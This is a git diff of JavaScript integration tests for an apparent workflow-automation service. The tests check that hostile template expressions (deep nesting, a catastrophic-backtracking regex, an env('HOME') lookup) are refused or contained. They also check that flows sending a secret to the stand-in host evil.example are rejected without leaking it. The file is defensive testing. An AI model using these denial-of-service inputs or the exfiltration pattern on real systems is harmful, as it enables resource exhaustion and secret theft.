@@ -9,7 +9,7 @@ import { pullOf, startStandIn } from "../stand-in.mjs";
 const TOKENS = `demo:${LOCAL.apiToken},boss:boss-token:admin+read+write,reader:reader-token:read`;
 const SECRET = "hunter2hunter2";
 
-let canopy, service, edge, office, boss;
+let canopy, service, edge, office, boss, hostile;
 /** What the service answers next; then 200 with `{"ok": true}`. */
 const answers = [];
 
@@ -182,4 +182,49 @@ test("killed at each step a run of ten ends, and each call has one key", async (
   } finally {
     await own.stop();
   }
+});
+
+test("hostile definitions are refused with their place, nothing leaks, and the Worker stays up", async () => {
+  const many = (part, count, end = "") => part.repeat(count) + end;
+  const sources = [many("!", 200, "true"), many("-", 200, "1"), many("now.", 200, "x"), many("now?1:", 100, "1"), many("(", 24, "now") + many(")", 24), many("[", 24) + many("]", 24), many("{'a':", 24, "1") + many("}", 24), many("1<", 200, "1"), many("1+", 200, "1"), many("now&&", 100, "now"), many("now||", 100, "now"), many("now.?x", 100), many("[0]", 60), many("size(", 24, "now") + many(")", 24), many("'a'.trim()", 1) + many(".trim()", 64), many("(", 24), many("'", 900), many("\\", 900), `[1]${many(".map(x, [x, x])", 24)}`, `['x']${many(".map(x, x + x)", 30)}`, "env('HOME')", "'a'.matches('(a+)+$')"];
+  let kept = 0;
+  for (const [at, source] of sources.entries()) {
+    const group = { title: "Hostile", flows: { flow: { trigger: { on: "manual", of: "pull" }, steps: [{ id: "a", use: "set", with: { values: `{{ ${source} }}` } }] } } };
+    const [status, shown] = await asked(boss, "PUT", `/api/v1/flows/hostile-${at}`, group);
+    if (status === 422) {
+      assert.deepEqual(shown.errors.map(({ pointer }) => pointer), ["/flows/flow/steps/0/with/values"], source);
+      continue;
+    }
+    assert.equal(status, 201, `${source}: ${JSON.stringify(shown)}`);
+    await put(`/api/v1/instances/hostile-${at}`, { group: `hostile-${at}`, enabled: true });
+    const [begunStatus, { run_id }] = await asked(office, "POST", `/api/v1/instances/hostile-${at}/runs`, { flow: "flow", pull_id: hostile ??= await begun() });
+    assert.equal(begunStatus, 202);
+    assert.ok(["done", "failed"].includes((await ended(run_id)).status), source);
+    await asked(boss, "DELETE", `/api/v1/instances/hostile-${at}`);
+    kept += 1;
+  }
+  assert.ok(kept > 8, `${kept} were evaluated`);
+  const leak = await asked(boss, "PUT", "/api/v1/flows/leak", { title: "Leak", flows: { flow: on(["COMPLETE"], [{ id: "a", use: "http", with: { url: `https://evil.example/?${SECRET}` } }]) } });
+  assert.deepEqual([leak[0], leak[1].errors[0].pointer], [422, "/flows/flow/steps/0/with/url"]);
+  assert.ok(!JSON.stringify(leak).includes(SECRET));
+  const elsewhere = await asked(boss, "PUT", "/api/v1/flows/else", { title: "Else", flows: { flow: on(["COMPLETE"], [{ id: "a", use: "http", with: { url: "https://evil.example/" }, secret: { name: "GONE", as: "bearer" } }]) } });
+  assert.deepEqual([elsewhere[0], elsewhere[1].errors[0].pointer], [422, "/flows/flow/steps/0/secret/name"]);
+  // Where it goes is known only when it runs.
+  await deployed("astray", { trigger: { on: "manual", of: "pull" }, steps: [{ id: "a", use: "http", with: { url: "{{ config.url }}" }, secret: { name: "SHOP", as: "bearer" } }] }, { fields: { url: { type: "url" } }, config: { url: `${canopy.url}/x` } });
+  const [, { run_id }] = await asked(office, "POST", "/api/v1/instances/astray/runs", { flow: "flow", pull_id: hostile });
+  const astray = await ended(run_id);
+  assert.deepEqual([astray.status, astray.reason], ["failed", "SECRET"]);
+  assert.ok(!canopy.calls.some(({ headers }) => headers.authorization?.includes(SECRET)), "it was not sent there");
+});
+
+test("what runs write starts no run without end", async () => {
+  const echo = on(["ECHO"], [{ id: "again", use: "emit", with: { event_type: "ECHO" } }]);
+  await deployed("echo", echo);
+  const id = await begun();
+  await asked(office, "POST", `/api/v1/pulls/${id}/events`, { event_type: "ECHO", key: "first" });
+  await until(async () => (await runsOf(`pull_id=${id}&status=done&limit=100`)).length === 6, "the last of them");
+  await postWebhook(edge, authStatus(id, "PULLING_DATA", 2));
+  await office.seen(id, (pull) => pull.status, "the pull");
+  assert.equal((await runsOf(`pull_id=${id}&limit=100`)).length, 6);
+  await asked(boss, "DELETE", "/api/v1/instances/echo");
 });
